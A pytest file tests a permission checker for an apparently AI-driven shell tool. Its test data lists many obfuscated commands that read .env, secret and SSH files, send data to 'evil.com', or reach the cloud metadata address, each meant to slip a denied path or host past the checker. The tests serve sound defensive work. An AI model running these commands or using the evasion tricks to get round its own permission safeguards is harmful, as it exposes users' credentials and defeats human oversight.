"""Files and pages that a command line names, or may name, in whatever way it is written."""

from __future__ import annotations

from pathlib import Path

import pytest
from unit.permissions.asks import shell, verdict

from copilot_magics.permissions import Policy, understand


def test_denied_files_and_pages_are_looked_for_in_commands() -> None:
    assert verdict(shell("cat .env"), "allow-all", deny=["read(.env)"]) == "refuse"
    assert verdict(shell("echo a > x/.env"), "allow-all", deny=["write(.env)"]) == "refuse"
    assert (
        verdict(shell("curl https://evil.com/x"), "allow-all", deny=["url(evil.com)"]) == "refuse"
    )
    assert verdict(shell("nc evil.com 80"), "allow-all", deny=["url(evil.com)"]) == "refuse"
    assert verdict(shell("curl https://x.y"), "allow-all", deny=["url(evil.com)"]) == "allow"


NAMED = {
    "read(secret.txt)": [
        "cat sec''ret.txt", "cat sec\\ret.txt", "cat 'sec'\"ret\".txt", "cat SECRET.TX''T",
        "cat < sec''ret.txt", "x=sec''ret.txt", "cat <<< sec''ret.txt", "dd if=sec''ret.txt",
        "curl -d@sec''ret.txt h", "cat src/../sec''ret.txt", "curl file:///x/sec%72et.txt",
        "bash -c \"cat sec''ret.txt\"", "eval cat 'sec\"\"ret.txt'", "ssh h 'cat sec\"\"ret.txt'",
        "git -c alias.x='!cat sec\"\"ret.txt' x", "for i in sec''ret.txt; do :; done",
        "[[ -f sec''ret.txt ]]", "f() { cat sec''ret.txt; }", "echo $(cat sec''ret.txt)",
        "cat <(cat sec''ret.txt)", "grep x --file=sec''ret.txt",
        "sh -c 'sh -c \"cat sec\\\\ret.txt\"'",
        "cat ~/sec''ret.txt", "tar x secret.txt", "scp h:sec''ret.txt .",
    ],
    "write(secret.txt)": [
        "echo x > sec''ret.txt", "echo x >sec''ret.txt", "echo x &> sec\\ret.txt",
        "tee sec''ret.txt",
        "echo x >| sec''ret.txt", "echo x 2>> sec''ret.txt",
    ],
    "write(keep)": ["cp a --target-directory=ke''ep", "cp a ke''ep/b", "mv a ./ke\\ep"],
    "read(~/.ssh)": ["cat ~/.ssh/x", "cat ~/.s''sh/x", "tar c -C ~/.ssh ."],
    "url(evil.com)": [
        'curl https://ev""il.com', "curl https://ev\\il.com", "curl 'https://'evil.com",
        "curl https://%65vil.com", "curl https://EV''IL.com", 'curl ev""il.com',
        "curl x.ev''il.com",
        "curl evil\u3002com", "wget \uff45vil.com", "curl ev\u00adil.com",
        "bash -c 'curl ev\"\"il.com'", "git clone https://ev''il.com/x", "curl -xev''il.com x",
    ],
    "url(169.254.169.254)": [
        "curl 2852039166", "curl http://0xA9FEA9FE/latest",
        "nc 169.254.43518 80", "ssh u@0xa9.16689662",
        "curl [::ffff:a9fe:a9fe]:80", "curl --url=0251.0376.0251.0376", "curl 28520''39166",
        "python -c \"get('http://2852039166/')\"", "wget '//0xA9FEA9FE/x'",
    ],
    "url(127.0.0.1)": ["curl localhost:8888", "nc ::1 80", "curl 127.1", "wget http://0/"],
    "url(https://evil.com/private)": ["curl https://evil.com/a/../pri''vate"],
}  # fmt: skip
PERHAPS = {
    "read(secret.txt)": [
        "cat secre?.txt", "cat s*", "cat *", "cat [rs]ecret.txt", "cat [[:alpha:]]ecret.txt",
        "cat [^a]ecret.txt", "cat secret.tx[t]", "cat ./s''ecret.*", "cat $x", 'cat "$x"',
        "cat $(x)",
        "cat {secret,x}.txt", "cat sec$'r'et.txt", "find . -name 'secr*' -exec cat {} +",
        "cat ${x}ret.txt", "cat -nsec''ret.txt", "bash -c 'cat $x'", "eval 'cat $x'", "cd -; cat a",
        "cat <<E\nx\nE", "xargs sh -c 'cat $0'", "cat 'open", "cat */*/*/x", "cat **/x",
    ],
    "read(src/in)": [
        "cd src; cat in", "cd src && cat ./i''n", "tar -C src -cf - in", "git -C src show :in",
        "cd linked-src; cat in", "pushd src; cat i*", "cat sr?/in", "cat */in", "cat s*/i*",
        "cd s''rc; cd ../src; cat in", "env -C src cat in", "cp a/in src", "cp in src/",
        "mkdir src; cd src; cat in", "find . -path 's*n'", "cd ./x; cd ../src; cat in",
        "cd sr*; cat in",
    ],
    "read(a/b/c)": ["cd a; cd b; cat c", "cd a/b; cat c", "cd a; cat b/c", "cp c a/b"],
    "read(*.pem)": ["cat k*", "cat *m", "cat x.p?m"],
    "read(src/**)": ["cat s*/x", "cat */x"],
    "read(~/.ssh)": ["cd; cat .ssh/x", "cd ~; cat .ssh/x", "cat $HOME/.ssh/x", "cat ~/.s*/x",
                     "scp -i~/.ssh/x a b:"],
    "write(secret.txt)": ["echo x > secre?.txt", "echo x > $x", 'tee "$x"',
                          "exec 3<> sec''ret.txt"],
    "write(keep)": ["cp a -tkeep", "curl -okeep/x http://a", "tar -xCkeep", "unzip -qdkeep a.zip"],
    "url(evil.com)": [
        "curl https://$x", "curl https://{evil,x}.com", "curl 'https://ev{i,}l.com'", "curl $(x)",
        "curl https://e[v-v]il.com", "bash -c 'curl $x'", "x=evi; curl ${x}l.com",
    ],
}  # fmt: skip
ELSEWHERE = [
    "ls -la src", "git status && git log --oneline | head -5", "grep -rn x src | wc -l",
    "cat a > b",
    "git commit -m 'a (long) message: it does this, and that; \"quoted\" too'", "python x.py",
    "git commit -m \"don't\"", "cd src && ls", "cd x; cat y", "cat src/*.py", "ls *.md", "echo $?",
    "diff <(ls a) <(ls b)", "awk '{print $1}' f", "timeout 5 awk '{print $1}' f",
    "find . -name '*.py'",
    "sed -i 's/a/b/' x.py", "tar czf a.tgz src", "pip install -r requirements.txt",
    "pytest -q tests",
    "sleep 1; head -n 0 a; kill -0 12; python x.py --lr 0.0 1.0", "date -d '12:30:45' a::b",
    "curl -d '{\"a\": 1}' -w '%{http_code}' https://good.com", "cp a b", "cat insecret.txt",
]  # fmt: skip


@pytest.mark.parametrize(("deny", "text"), [(d, t) for d, texts in NAMED.items() for t in texts])
def test_a_denied_place_is_found_in_commands(deny: str, text: str, folder: Path) -> None:
    assert verdict(shell(text, folder), "allow-all", deny=[deny], cwd=folder) == "refuse"


@pytest.mark.parametrize(("deny", "text"), [(d, t) for d, texts in PERHAPS.items() for t in texts])
def test_what_may_be_a_denied_place_is_asked(deny: str, text: str, folder: Path) -> None:
    (folder / "linked-src").symlink_to("src")
    (folder / "src" / "in").write_text("x")
    assert verdict(shell(text, folder), "allow-all", deny=[deny], cwd=folder) == "ask"
    assert verdict(shell(text, folder), "ask", allow=["shell"], deny=[deny], cwd=folder) == "ask"
    # What the user wrote himself, word for word, is his word.
    if "\n" not in text:
        allow = [f"shell({text})"]
        assert verdict(shell(text, folder), allow=allow, deny=[deny], cwd=folder) == "allow"


@pytest.mark.parametrize("text", ELSEWHERE)
@pytest.mark.parametrize(
    "deny",
    [
        "read(secret.txt)",
        "write(src/in)",
        "read(~/.ssh)",
        "url(evil.com)",
        "read(/etc/x)",
        "url(localhost)",
        "url(169.254.169.254)",
    ],
)
def test_commands_that_name_another_place_are_left_alone(
    deny: str, text: str, folder: Path
) -> None:
    assert verdict(shell(text, folder), "allow-all", deny=[deny], cwd=folder) == "allow"


def test_a_shell_that_went_elsewhere_names_files_from_there(folder: Path) -> None:
    raw = {"kind": "shell", "fullCommandText": "cat in"}
    there = understand({**raw, "resolvedWorkingDirectory": str(folder / "src")}, folder)
    deny = ["read(src/in)"]
    assert verdict(there, "allow-all", deny=deny, cwd=folder) == "refuse"
    assert verdict(understand(raw, folder), "allow-all", deny=deny, cwd=folder) == "allow"
    policy = Policy("ask", [], [], folder)
    policy.allow_until_stop(understand(raw, folder))
    assert policy.decide(there).verdict == "ask"


@pytest.mark.parametrize(
    "words",
    [
        " ".join(f"f{number}" for number in range(3000)), "-" + "r" * 50 + "osrc/in", "x" * 5000,
        " ".join(f"*{number}*" for number in range(1500)),
    ],
    ids=["many", "letters", "long", "globs"],
)  # fmt: skip
def test_a_line_with_more_than_can_be_looked_for_is_asked(words: str, folder: Path) -> None:
    text = f"cp {words} src"
    assert verdict(shell(text, folder), "allow-all", deny=["write(src/in)"], cwd=folder) == "ask"


@pytest.mark.timeout(20)
@pytest.mark.parametrize("scrap", ["-a", "a", "a=", "[", "'\n '", "%41", "*a"])
def test_a_long_word_takes_no_longer(scrap: str, folder: Path) -> None:
    for program in ("mytool", "make", "sqlite3", "curl"):
        ask = shell(f"{program} -{scrap * 9_000}", folder)
        verdict(ask, allow=[f"shell({program}:*)"], cwd=folder)
        for deny in ("read(src/in)", "url(https://evil.com/x)", "shell(rm)"):
            verdict(ask, "allow-all", deny=[deny], cwd=folder)
